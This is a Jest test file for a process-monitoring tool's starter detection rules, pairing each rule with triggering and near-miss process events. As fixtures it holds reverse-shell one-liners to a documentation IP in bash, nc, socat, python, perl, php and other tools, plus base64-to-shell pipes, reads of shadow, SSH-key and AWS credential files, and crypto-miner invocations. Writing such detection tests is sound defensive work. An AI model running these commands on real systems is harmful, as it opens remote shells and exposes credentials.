import { beforeAll, describe, expect, test } from '@jest/globals';
import type { ProcessEvent } from '@daemoneye/collector-core';
import type { Rule } from '../src/rule/rule.ts';
import { loadRules } from '../src/rule/load-rules.ts';
import { starterRulesDirectory } from '../src/starter-rules.ts';
import { processEvent } from './fixture/process-event.ts';

type Given = Partial<ProcessEvent>;
interface Cases {
  readonly matching: readonly Given[];
  readonly near: readonly Given[];
}

const shell = (given: Given): Given => ({ name: 'sh', executable_path: '/usr/bin/dash', ...given });
const bash = (command_line: string): Given => ({ name: 'bash', command_line });
const tool = (name: string, command_line: string): Given => ({ name, command_line });

const cases: Readonly<Record<string, Cases>> = {
  'exec-from-temp-directory': {
    matching: [{ executable_path: '/tmp/x' }, { executable_path: '/var/tmp/.cache/run' }],
    near: [
      { executable_path: '/home/ann/tmp/x' },
      { executable_path: '/tmpfiles/x' },
      { command_line: 'cat /tmp/x' },
      { executable_path: null },
    ],
  },
  'exec-from-shared-memory': {
    matching: [{ executable_path: '/dev/shm/.x' }, { executable_path: '/run/shm/a/b' }],
    near: [{ executable_path: '/dev/shmem' }, { cwd: '/dev/shm' }, { executable_path: null }],
  },
  'exec-from-memfd': {
    matching: [
      { is_memfd: true, executable_path: '/memfd:payload' },
      { is_memfd: true, executable_path: null },
      { is_memfd: true, executable_path: '/memfd:runc_cloned:/proc/self/exe', user_id: 1_000 },
    ],
    near: [
      { is_memfd: false },
      { is_memfd: null },
      { is_memfd: true, executable_path: '/memfd:runc_cloned:/proc/self/exe', user_id: 0 },
    ],
  },
  'shell-of-web-server': {
    matching: [
      shell({ parent_name: 'nginx', command_line: 'sh -c id' }),
      shell({ parent_name: 'php-fpm8.2', command_line: null }),
      shell({ parent_name: 'python3', ancestors: ['/usr/bin/python3', '/usr/sbin/apache2'] }),
    ],
    near: [
      { parent_name: 'nginx', name: 'nginx' },
      shell({ parent_name: 'php-fpm8.2', command_line: 'sh -c /usr/sbin/sendmail -t -i' }),
      shell({
        parent_name: 'apache2',
        command_line: '/bin/sh -c /usr/bin/rotatelogs /var/log/a 86400',
      }),
      shell({ command_line: 'sh /etc/init.d/nginx start', ancestors: ['/usr/bin/nginx-ctl'] }),
    ],
  },
  'deleted-executable': {
    matching: [
      { file_exists: false, executable_path: '/home/ann/a.out' },
      { file_exists: false, executable_path: '/root/x', is_memfd: null, type: 'process.snapshot' },
    ],
    near: [
      { file_exists: false, executable_path: '/usr/sbin/nginx' },
      { file_exists: false, executable_path: '/memfd:x', is_memfd: true },
      { file_exists: null, executable_path: '/home/ann/a.out' },
      { file_exists: true, executable_path: '/home/ann/a.out' },
    ],
  },
  'reverse-shell': {
    matching: [
      bash("bash -c 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'"),
      tool('nc', 'nc -e /bin/sh 198.51.100.7 4444'),
      tool('ncat', 'ncat 198.51.100.7 4444 --sh-exec id'),
      shell({
        command_line:
          'sh -c rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.7 1 >/tmp/f',
      }),
      tool('socat', 'socat TCP:198.51.100.7:4444 EXEC:/bin/bash,pty'),
      tool('python3', 'python3 -c import socket,os; s=socket.socket(); os.dup2(s.fileno(),0)'),
      tool('perl', 'perl -e use Socket; exec("/bin/sh -i");'),
      tool('php', 'php -r $s=fsockopen("198.51.100.7",1);exec("sh <&3");'),
      tool('ruby', 'ruby -rsocket -e f=TCPSocket.open("h",1);exec sprintf("sh")'),
      tool('gawk', 'gawk BEGIN{s="/inet/tcp/0/198.51.100.7/1"}'),
    ],
    near: [
      bash('bash -c exec 3<>/dev/tcp/127.0.0.1/8080'),
      tool('grep', 'grep -r bash -i >& /dev/tcp/ 0>&1 .'),
      tool('nc', 'nc -z 127.0.0.1 22'),
      tool('python3', 'python3 -m http.server --bind socket'),
      tool('socat', 'socat TCP-LISTEN:80,fork TCP:10.0.0.1:80'),
      shell({ command_line: 'mkfifo /run/queue' }),
    ],
  },
  'encoded-command-to-shell': {
    matching: [
      shell({ command_line: 'sh -c echo aWQK | base64 -d | sh' }),
      bash('bash -c echo aWQK|base64 --decode|bash'),
      bash('bash -c eval "$(echo aWQK | base64 -d)"'),
      bash('bash -c xxd -r -p /tmp/x | /bin/bash'),
    ],
    near: [
      shell({ command_line: 'sh -c base64 -d file | sha256sum' }),
      tool('base64', 'base64 -d secret.txt'),
      shell({ command_line: 'sh -c curl -s https://example.com/i | shasum' }),
      tool('grep', 'grep base64 -d | sh README'),
    ],
  },
  'credential-file-read': {
    matching: [
      tool('cat', 'cat /etc/shadow'),
      tool('cp', 'cp /home/ann/.ssh/id_ed25519 /tmp/k'),
      tool('tar', 'tar czf - /root/.aws/credentials'),
      { ...tool('less', 'less /etc/gshadow'), cwd: null },
    ],
    near: [
      tool('cat', 'cat /home/ann/.ssh/id_ed25519.pub'),
      tool('ssh', 'ssh -i /home/ann/.ssh/id_ed25519 host'),
      { ...tool('cp', 'cp -p /etc/shadow shadow.bak'), cwd: '/var/backups', user_id: 0 },
      tool('cat', 'cat /etc/passwd'),
      tool('sshd', 'sshd -h /etc/ssh/ssh_host_rsa_key'),
    ],
  },
  'crypto-miner': {
    matching: [
      tool('xmrig', 'xmrig'),
      tool('x', './x -o stratum+tcp://pool.example:3333 -u w'),
      { name: null, command_line: 'a -o stratum+ssl://pool.example:443' },
      tool('worker', 'worker --donate-level=1'),
    ],
    near: [
      tool('grep', 'grep -r stratum+tcp:// /etc'),
      tool('pkill', 'pkill xmrig'),
      tool('chronyd', 'chronyd -x stratum 10'),
    ],
  },
  'unexpected-setuid-child': {
    matching: [
      shell({ user_id: 0, ancestors: ['/home/ann/exploit', '/usr/bin/bash', '/usr/sbin/sshd'] }),
      { name: 'bash', user_id: 0, ancestors: ['/usr/bin/bash'] },
    ],
    near: [
      shell({ user_id: 0, ancestors: ['/usr/bin/sudo', '/usr/bin/bash'] }),
      shell({ user_id: 0, ancestors: ['/usr/bin/make', '/usr/bin/sudo', '/usr/bin/bash'] }),
      shell({ user_id: 0, ancestors: ['su', '/usr/bin/bash'] }),
      shell({ user_id: 0, login_id: 0, ancestors: ['/usr/sbin/sshd'] }),
      shell({ user_id: 0, login_id: null, tty: null, ancestors: ['/usr/sbin/cron'] }),
      shell({ user_id: 0, tty: null, ancestors: ['/usr/sbin/cron'] }),
      shell({ user_id: 1_000 }),
      { name: 'sshd', user_id: 0, tty: null },
    ],
  },
  'kernel-thread-masquerade': {
    matching: [
      { command_line: '[kworker/0:1]', executable_path: '/home/ann/x' },
      { name: 'kworker/u8:2', executable_path: '/var/lib/x' },
    ],
    near: [
      { name: 'kworker/0:1', executable_path: null, command_line: null },
      { name: '[', command_line: '[ -f x ]', executable_path: '/usr/bin/[' },
      { name: 'test', command_line: 'test [a]' },
    ],
  },
};

describe('starter rules', () => {
  let rules: readonly Rule[] = [];
  beforeAll(async () => {
    const set = await loadRules(starterRulesDirectory);
    expect(set.refused).toEqual([]);
    rules = set.rules;
  });

  const fires = (id: string, given: Given): boolean => {
    const rule = rules.find((one) => one.id === id);
    const event = processEvent(given);
    return rule !== undefined && rule.on.includes(event.type) && rule.condition.matches(event);
  };

  test('are the rules that have cases here, each in the file of its id', () => {
    expect(rules.map((rule) => rule.id).toSorted()).toEqual(Object.keys(cases).toSorted());
    expect(rules.map((rule) => rule.file)).toEqual(rules.map((rule) => `${rule.id}.yml`));
  });

  test('say what they mean and which technique it is', () => {
    for (const rule of rules) {
      expect(rule.description?.length).toBeGreaterThan(40);
      expect(rule.tags).toContainEqual(expect.stringMatching(/^attack\.t\d{4}/));
    }
  });

  test('stay quiet about an ordinary process', () => {
    expect(rules.filter((rule) => rule.condition.matches(processEvent()))).toEqual([]);
  });

  for (const [id, { matching, near }] of Object.entries(cases)) {
    test(`${id} fires for what it is about`, () => {
      expect(matching.filter((given) => !fires(id, given))).toEqual([]);
    });
    test(`${id} stays quiet about what only looks like it`, () => {
      expect(near.filter((given) => fires(id, given))).toEqual([]);
    });
  }
});
